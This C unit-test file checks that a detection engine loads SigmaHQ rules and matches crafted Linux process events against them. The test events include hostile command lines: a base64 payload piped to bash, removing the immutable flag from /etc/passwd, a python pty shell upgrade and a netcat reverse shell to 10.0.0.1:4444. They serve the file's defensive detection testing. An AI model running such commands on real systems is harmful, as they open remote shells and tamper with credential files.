/*
 * test_sigma_corpus.c - the load report over SigmaHQ's rules ($VIG_SHARED_DIR/data/sigma),
 * and matching of crafted Linux events against SigmaHQ's linux process_creation rules.
 *
 * The report prints how many rules loaded and the failures grouped by reason, and asserts the
 * project's targets: every linux, web (webserver, proxy) and network (firewall, dns, zeek)
 * rule loads, and at least 99% of all rules load. Then the whole corpus is compiled into one
 * engine. Skipped, with a message, when the shared data directory is absent.
 */
#include <dirent.h>
#include <ftw.h>
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>

#include <cmocka.h>

#include "detect/detect.h"
#include "detect/sigma.h"

#define MAX_REASONS 256

struct reason {
	char text[VIG_ERRBUF_SIZE];
	int count;
	char example[512];
};

static struct {
	struct vig_sigma_ruleset rs;
	size_t files, loaded, failed, must_fail;
	struct reason reasons[MAX_REASONS];
	size_t n_reasons;
	const char *only_under; /* load only paths containing this, or NULL */
} C;

/* Reason with the quoted names blanked, so that failures group by kind. */
static void normalise(const char *in, char *out, size_t cap)
{
	size_t o = 0;
	bool q = false;

	for (size_t i = 0; in[i] && o + 1 < cap; i++) {
		if (in[i] == '\'') {
			q = !q;
			if (o + 4 < cap) {
				if (q)
					memcpy(out + o, "'..'", 4), o += 4;
			}
			continue;
		}
		if (!q)
			out[o++] = in[i];
	}
	out[o] = '\0';
}

static void count_reason(const char *err, const char *path)
{
	char norm[VIG_ERRBUF_SIZE];
	size_t i;

	normalise(err, norm, sizeof(norm));
	for (i = 0; i < C.n_reasons; i++)
		if (strcmp(C.reasons[i].text, norm) == 0)
			break;
	if (i == C.n_reasons) {
		if (C.n_reasons == MAX_REASONS)
			return;
		snprintf(C.reasons[i].text, sizeof(C.reasons[i].text), "%s", norm);
		snprintf(C.reasons[i].example, sizeof(C.reasons[i].example), "%s: %s", path, err);
		C.n_reasons++;
	}
	C.reasons[i].count++;
}

static bool must_load(const char *path)
{
	return strstr(path, "/linux/") || strstr(path, "/web/") || strstr(path, "/network/");
}

static int visit(const char *path, const struct stat *sb, int type, struct FTW *ftw)
{
	size_t n = strlen(path);
	char err[VIG_ERRBUF_SIZE];
	struct vig_sigma_rule *r;

	if (type != FTW_F || n < 4 || strcmp(path + n - 4, ".yml") != 0)
		return 0;
	if (C.only_under && !strstr(path, C.only_under))
		return 0;
	C.files++;
	r = vig_sigma_load_file(path, NULL, err);
	if (!r) {
		C.failed++;
		count_reason(err, path);
		if (must_load(path)) {
			C.must_fail++;
			print_message("MUST LOAD but failed: %s: %s\n", path, err);
		}
		return 0;
	}
	C.loaded++;
	assert_int_equal(vig_sigma_ruleset_add(&C.rs, r), VIG_OK);
	return 0;
}

static const char *shared_dir(void)
{
	const char *d = getenv("VIG_SHARED_DIR");
	static char path[1024];

	if (!d)
		return NULL;
	snprintf(path, sizeof(path), "%s/data/sigma", d);
	DIR *dir = opendir(path);
	if (!dir)
		return NULL;
	closedir(dir);
	return path;
}

static void load_dirs(const char *base)
{
	static const char *const dirs[] = {"rules", "rules-compliance", "rules-emerging-threats", "rules-placeholder",
					   "rules-threat-hunting"};
	char p[1200];

	for (size_t i = 0; i < VIG_ARRAY_LEN(dirs); i++) {
		snprintf(p, sizeof(p), "%s/%s", base, dirs[i]);
		nftw(p, visit, 16, FTW_PHYS);
	}
}

static void test_load_report(void **state)
{
	const char *base = shared_dir();
	struct vig_detect_engine *eng;
	struct vig_detect_stats st;
	char err[VIG_ERRBUF_SIZE];

	if (!base) {
		skip();
		return;
	}
	memset(&C, 0, sizeof(C));
	vig_sigma_ruleset_init(&C.rs, 0);
	load_dirs(base);
	print_message("sigma load report: %zu files, %zu loaded, %zu failed (%.2f%% loaded)\n", C.files, C.loaded,
		      C.failed, C.files ? 100.0 * (double)C.loaded / (double)C.files : 0.0);
	for (size_t i = 0; i < C.n_reasons; i++)
		print_message("  %4d  %s\n        e.g. %s\n", C.reasons[i].count, C.reasons[i].text,
			      C.reasons[i].example);
	assert_true(C.files >= 3000);
	assert_int_equal(C.must_fail, 0);
	assert_true(C.loaded * 100 >= C.files * 99);

	/* Under sanitizers compiling every Windows rule takes minutes: the ASan build compiles the
	 * non-Windows rules (vig-detect-bench compiles everything in release builds). */
	struct vig_sigma_ruleset nw;
	size_t n_nw = 0;
	vig_sigma_ruleset_init(&nw, 0);
	for (size_t i = 0; i < C.rs.n; i++) {
		struct vig_sigma_rule *r = C.rs.rules[i];
		if (r->logsource.product && !strcmp(r->logsource.product, "windows")) {
			vig_sigma_free(r);
			continue;
		}
		n_nw++;
		assert_int_equal(vig_sigma_ruleset_add(&nw, r), VIG_OK);
	}
	free(C.rs.rules);
	memset(&C.rs, 0, sizeof(C.rs));
	{
		struct timespec t0, t1;
		clock_gettime(CLOCK_MONOTONIC, &t0);
		eng = vig_detect_build(&nw, err);
		clock_gettime(CLOCK_MONOTONIC, &t1);
		print_message("engine build: %.2f s\n",
			      (double)(t1.tv_sec - t0.tv_sec) + (double)(t1.tv_nsec - t0.tv_nsec) / 1e9);
	}
	if (!eng)
		print_message("build failed: %s\n", err);
	assert_non_null(eng);
	vig_detect_get_stats(eng, &st);
	print_message("engine: %zu rules (%zu detection), %zu logsource groups, %zu tests: %zu in %zu hyperscan "
		      "databases, %zu pcre2, %zu direct; %zu negative-only rules\n",
		      st.rules, st.detection_rules, st.groups, st.atoms, st.hs_patterns, st.hs_databases,
		      st.pcre_patterns, st.direct_atoms, st.always_rules);
	assert_int_equal(st.rules, n_nw);
	assert_int_equal(st.atoms, st.hs_patterns + st.pcre_patterns + st.direct_atoms);
	vig_detect_free(eng);
}

/* --- matching crafted events against SigmaHQ's linux process_creation rules ------------- */

struct hits {
	const char *ids[64];
	size_t n;
};

static int collect(void *ctx, const struct vig_sigma_rule *r)
{
	struct hits *h = ctx;

	if (h->n < VIG_ARRAY_LEN(h->ids))
		h->ids[h->n++] = r->id;
	return 0;
}

static bool has(const struct hits *h, const char *id)
{
	for (size_t i = 0; i < h->n; i++)
		if (h->ids[i] && strcmp(h->ids[i], id) == 0)
			return true;
	return false;
}

static void proc_event(struct vig_event *ev, const char *exe, const char *cmd, const char *parent)
{
	vig_event_clear(ev);
	assert_int_equal(vig_event_set_cstr(ev, VIG_F_EVENT_CATEGORY, "process"), VIG_OK);
	assert_int_equal(vig_event_set_cstr(ev, VIG_F_EVENT_TYPE, "start"), VIG_OK);
	assert_int_equal(vig_event_set_cstr(ev, VIG_F_AGENT_ID, "agent-1"), VIG_OK);
	assert_int_equal(vig_event_set_cstr(ev, VIG_F_PROCESS_EXECUTABLE, exe), VIG_OK);
	assert_int_equal(vig_event_set_cstr(ev, VIG_F_PROCESS_NAME, strrchr(exe, '/') + 1), VIG_OK);
	assert_int_equal(vig_event_set_cstr(ev, VIG_F_PROCESS_COMMAND_LINE, cmd), VIG_OK);
	if (parent)
		assert_int_equal(vig_event_set_cstr(ev, VIG_F_PROCESS_PARENT_EXECUTABLE, parent), VIG_OK);
}

static void test_linux_process_creation(void **state)
{
	const char *base = shared_dir();
	struct vig_detect_engine *eng;
	struct vig_detect_scratch *s;
	struct vig_arena arena;
	struct vig_event ev;
	struct hits h;
	char err[VIG_ERRBUF_SIZE], dir[1200];

	if (!base) {
		skip();
		return;
	}
	memset(&C, 0, sizeof(C));
	vig_sigma_ruleset_init(&C.rs, 0);
	snprintf(dir, sizeof(dir), "%s/rules/linux", base);
	nftw(dir, visit, 16, FTW_PHYS);
	assert_true(C.loaded > 100);
	eng = vig_detect_build(&C.rs, err);
	assert_non_null(eng);
	s = vig_detect_scratch_new(eng, err);
	assert_non_null(s);
	vig_arena_init(&arena, 4096, 1 << 20);
	vig_event_init(&ev, &arena);

	/* Base64 decode piped into a shell (Linux Base64 Encoded Pipe To Shell, e2072cab-...). */
	proc_event(&ev, "/usr/bin/bash", "bash -c echo ZWNobyBoaQ== | base64 -d | bash", "/usr/bin/sshd");
	h.n = 0;
	assert_int_equal(vig_detect_match(eng, s, &ev, collect, &h, NULL), VIG_OK);
	for (size_t i = 0; i < h.n; i++)
		print_message("  base64|bash fired %s\n", h.ids[i]);
	assert_true(has(&h, "ba592c6d-6888-43c3-b8c6-689b8fe47337"));

	/* chattr removing the immutable attribute (Remove Immutable File Attribute). */
	proc_event(&ev, "/usr/bin/chattr", "chattr -i /etc/passwd", "/usr/bin/bash");
	h.n = 0;
	assert_int_equal(vig_detect_match(eng, s, &ev, collect, &h, NULL), VIG_OK);
	assert_true(has(&h, "34979410-e4b5-4e5d-8cfb-389fdff05c12"));
	assert_false(has(&h, "7f734ed0-4f47-46c0-837f-6ee62505abd9"));

	/* A python pty upgrade (all of selection_*, list-of-maps selection). */
	proc_event(&ev, "/usr/bin/python3.11", "python3 -c 'import pty; pty.spawn(\"/bin/bash\")'", "/usr/bin/nc");
	h.n = 0;
	assert_int_equal(vig_detect_match(eng, s, &ev, collect, &h, NULL), VIG_OK);
	assert_true(has(&h, "c4042d54-110d-45dd-a0e1-05c47822c937"));
	assert_false(has(&h, "34979410-e4b5-4e5d-8cfb-389fdff05c12"));

	/* A netcat reverse shell; without the -e flag it must not fire. */
	proc_event(&ev, "/usr/bin/nc", "nc 10.0.0.1 4444 -e /bin/bash", "/usr/bin/bash");
	h.n = 0;
	assert_int_equal(vig_detect_match(eng, s, &ev, collect, &h, NULL), VIG_OK);
	assert_true(has(&h, "7f734ed0-4f47-46c0-837f-6ee62505abd9"));
	proc_event(&ev, "/usr/bin/nc", "nc 10.0.0.1 4444", "/usr/bin/bash");
	h.n = 0;
	assert_int_equal(vig_detect_match(eng, s, &ev, collect, &h, NULL), VIG_OK);
	assert_false(has(&h, "7f734ed0-4f47-46c0-837f-6ee62505abd9"));

	/* The same command line in a network event is routed elsewhere: no process rule fires. */
	proc_event(&ev, "/usr/bin/chattr", "chattr -i /etc/passwd", "/usr/bin/bash");
	assert_int_equal(vig_event_set_cstr(&ev, VIG_F_EVENT_CATEGORY, "network"), VIG_OK);
	h.n = 0;
	assert_int_equal(vig_detect_match(eng, s, &ev, collect, &h, NULL), VIG_OK);
	assert_false(has(&h, "34979410-e4b5-4e5d-8cfb-389fdff05c12"));

	/* A benign event fires nothing of these. */
	proc_event(&ev, "/usr/bin/ls", "ls -la /home/user", "/usr/bin/bash");
	h.n = 0;
	assert_int_equal(vig_detect_match(eng, s, &ev, collect, &h, NULL), VIG_OK);
	for (size_t i = 0; i < h.n; i++)
		print_message("  ls fired %s\n", h.ids[i]);
	assert_int_equal(h.n, 0);

	vig_arena_release(&arena);
	vig_detect_scratch_free(s);
	vig_detect_free(eng);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_load_report),
		cmocka_unit_test(test_linux_process_creation),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
